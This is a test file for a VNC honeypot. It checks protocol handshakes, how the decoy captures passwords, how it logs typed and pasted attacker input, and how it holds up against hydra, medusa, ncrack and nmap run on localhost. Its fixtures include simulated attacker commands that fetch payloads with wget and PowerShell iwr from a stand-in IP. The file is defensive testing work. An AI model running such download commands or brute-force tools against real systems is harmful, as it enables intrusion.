import { Buffer } from 'node:buffer';
import { execFile } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { connect } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { needTools } from '../../../test/support/need.ts';
import { serveDecoy } from '../../../test/support/serve-decoy.ts';
import { shellPersona } from '../../../test/support/shell-persona.ts';
import { holdsForAnyBytes, talk } from '../../../test/support/talk.ts';
import type { Persona } from '../../core/persona.ts';
import { responseTo } from './challenge.ts';
import { vnc } from './vnc.ts';

const persona = (details: Record<string, string> = {}, product = 'TigerVNC'): Persona =>
  shellPersona('linux-gnu', {
    login: { accepted: [['root', 'secret']], acceptAfter: 0 },
    software: { vnc: { product, version: '1.12.0', details: { width: '320', height: '200', ...details } } },
  });

const run = (program: string, words: readonly string[]): Promise<string> =>
  new Promise((resolve) => {
    execFile(program, [...words], { timeout: 30_000 }, (_error, stdout, stderr) => resolve(stdout + stderr));
  });

const key = (symbol: number): Buffer => {
  const bytes = Buffer.from([4, 1, 0, 0, 0, 0, 0, 0]);
  bytes.writeUInt32BE(symbol, 4);
  return bytes;
};
const type = (text: string): Buffer =>
  Buffer.concat(Array.from(text, (each) => key(each === '\n' ? 0xff0d : each.charCodeAt(0))));
const cut = (text: string): Buffer =>
  Buffer.concat([Buffer.from([6, 0, 0, 0, 0, 0, 0, text.length]), Buffer.from(text)]);
const hello = Buffer.from('RFB 003.008\n');

describe('the vnc decoy', () => {
  it('lets in without a password where the persona has none, and records what is typed and pasted', () => {
    const { text, facts } = talk(vnc, persona({ security: 'none' }), [
      hello,
      Buffer.of(1),
      Buffer.of(1),
      type('cmd\nwget http://203.0.113.5/x.exe\n'),
      cut('powershell -c "iwr http://203.0.113.5/y"'),
      type('last'),
    ]);
    expect(text).toContain('unit:1 (root)');
    expect(facts).toEqual([
      { kind: 'auth', service: 'vnc', user: '', method: 'none', accepted: true },
      { kind: 'command', service: 'vnc', input: 'cmd' },
      {
        kind: 'command',
        service: 'vnc',
        input: 'wget http://203.0.113.5/x.exe',
        urls: ['http://203.0.113.5/x.exe'],
      },
      {
        kind: 'command',
        service: 'vnc',
        input: 'cut text: powershell -c "iwr http://203.0.113.5/y"',
        urls: ['http://203.0.113.5/y'],
      },
      { kind: 'command', service: 'vnc', input: 'last' },
    ]);
  });

  it('names a password that is in its list and keeps challenge and response of one that is not', () => {
    for (const [password, expected] of [
      ['letmein', 'letmein'],
      ['hJ7#q', expect.stringMatching(/^\$vnc\$\*[0-9A-F]{32}\*[0-9A-F]{32}$/)],
    ] as const) {
      const challenge = Uint8Array.from({ length: 16 }, (_, index) => ((index + 1) * 7) & 255);
      for (const [product, reason] of [
        ['TigerVNC', 'Authentication failure'],
        ['x11vnc', 'password check failed!'],
      ] as const) {
        const { facts, text } = talk(vnc, persona({}, product), [
          hello,
          Buffer.of(2),
          responseTo(challenge, password),
        ]);
        expect(facts).toEqual([
          { kind: 'auth', service: 'vnc', user: '', method: 'password', password: expected, accepted: false },
        ]);
        expect(text.endsWith(reason)).toBe(true);
      }
    }
  });

  it('speaks 3.3 and 3.7 as they were', () => {
    expect(talk(vnc, persona(), [Buffer.from('RFB 003.003\n')]).text).toMatch(
      /^RFB 003\.008\n\0\0\0\x02.{16}$/s,
    );
    const old = talk(vnc, persona({ security: 'none' }), [
      Buffer.from('RFB 003.007\n'),
      Buffer.of(1),
      Buffer.of(0),
    ]);
    // No result after None ahead of 3.8.
    expect(old.text).toMatch(/^RFB 003\.008\n\x01\x01\x01\x40\0\xc8/s);
  });

  it('draws in the pixels that are asked for', () => {
    const open = [hello, Buffer.of(1), Buffer.of(1)];
    const ask = Buffer.from([3, 0, 0, 0, 0, 0, 1, 64, 0, 200]);
    const rows = (format: number[], hextile: boolean): number => {
      const set = Buffer.from([0, 0, 0, 0, ...format, 0, 0, 0]);
      const encodings = Buffer.from([2, 0, 0, 1, 0, 0, 0, hextile ? 5 : 0]);
      return (
        talk(vnc, persona({ security: 'none' }), [...open, set, encodings, ask]).replies.at(-1)?.length ?? 0
      );
    };
    expect(rows([32, 24, 0, 1, 0, 255, 0, 255, 0, 255, 16, 8, 0], false)).toBe(320 * 8 * 4);
    expect(rows([16, 16, 1, 1, 0, 31, 0, 63, 0, 31, 11, 5, 0], false)).toBe(320 * 8 * 2);
    expect(rows([8, 8, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0], false)).toBe(320 * 8);
    expect(rows([32, 24, 0, 1, 0, 255, 0, 255, 0, 255, 16, 8, 0], true)).toBeLessThan(320 * 8 * 4);
  });

  it('gives the same for any split of any bytes', () => {
    holdsForAnyBytes(vnc, () => persona({ security: 'none', width: '64', height: '64' }), [
      hello,
      Buffer.of(1),
      Buffer.concat([
        hello,
        Buffer.of(1, 1),
        type('id\n'),
        cut('x'),
        Buffer.from([3, 0, 0, 0, 0, 0, 0, 40, 0, 40]),
      ]),
      Buffer.from('RFB 003.003\n'),
      cut('abc'),
      Buffer.from([2, 0, 0, 1, 0, 0, 0, 5]),
      Buffer.from([6, 0, 0, 0, 0, 2, 0, 0]),
    ]);
    holdsForAnyBytes(vnc, () => persona(), [
      hello,
      Buffer.of(2),
      Buffer.alloc(16, 7),
      Buffer.from('RFB 003.007\n'),
    ]);
  });

  for (const more of [[], ['-encodings', 'raw'], ['-encodings', 'hextile']]) {
    needTools(['vncsnapshot', 'python3'])(`gives vncsnapshot its picture ${more.join(' ')}`, async () => {
      await using served = await serveDecoy(vnc, persona());
      const folder = mkdtempSync(join(tmpdir(), 'picket-vnc-'));
      try {
        // vncpasswd's file: the password under a key that is the same everywhere.
        const fixed = Buffer.from([23, 82, 107, 6, 35, 78, 88, 7]).toString('latin1');
        writeFileSync(join(folder, 'passwd'), responseTo(Buffer.from('secret\0\0'), fixed));
        const words = [
          '-quiet',
          ...more,
          '-passwd',
          join(folder, 'passwd'),
          `127.0.0.1:${served.port - 5900}`,
        ];
        const said = await run('vncsnapshot', [...words, join(folder, 'shot.jpg')]);
        expect(readFileSync(join(folder, 'shot.jpg')).length, said).toBeGreaterThan(2_000);
        expect(served.facts).toContainEqual({
          kind: 'auth',
          service: 'vnc',
          user: '',
          method: 'password',
          password: 'secret',
          accepted: true,
        });
        expect(served.errors).toEqual([]);
      } finally {
        rmSync(folder, { recursive: true });
      }
    });
  }

  needTools(['hydra'])('is guessed by hydra', async () => {
    await using served = await serveDecoy(vnc, persona());
    const said = await run('hydra', [
      '-I',
      '-p',
      'secret',
      '-t',
      '1',
      '-s',
      String(served.port),
      '127.0.0.1',
      'vnc',
    ]);
    expect(said).toMatch(/\[vnc\] host: 127\.0\.0\.1 +password: secret/);
    expect(served.errors).toEqual([]);
  });

  needTools(['medusa', 'ncrack'])('is guessed by medusa and ncrack', async () => {
    await using served = await serveDecoy(vnc, persona());
    const port = String(served.port);
    const [medusa, ncrack] = await Promise.all([
      run('medusa', ['-h', '127.0.0.1', '-n', port, '-u', 'x', '-p', 'secret', '-M', 'vnc']),
      run('ncrack', ['--user', 'x', '--pass', 'secret', `vnc://127.0.0.1:${port}`]),
    ]);
    expect(medusa).toContain('Password: secret [SUCCESS]');
    expect(ncrack).toMatch(/vnc: 'x' 'secret'/);
    expect(served.errors).toEqual([]);
  });

  needTools(['nmap'])('is told apart by nmap', async () => {
    await using served = await serveDecoy(vnc, persona());
    const said = await run('nmap', [
      '-Pn',
      '-sT',
      '-sV',
      '--script',
      'vnc-info',
      '-p',
      String(served.port),
      '127.0.0.1',
    ]);
    expect(said).toMatch(/vnc +VNC \(protocol 3\.8\)/);
    expect(said).toMatch(/VNC Authentication \(2\)/);
    expect(served.errors).toEqual([]);
  });

  it('closes on a client that speaks something else', async () => {
    await using served = await serveDecoy(vnc, persona());
    const socket = connect(served.port, '127.0.0.1');
    socket.write('GET / HTTP/1.1\r\n\r\n');
    socket.resume();
    await new Promise((resolve) => socket.once('close', resolve));
    expect(served.errors).toEqual([]);
  });
});
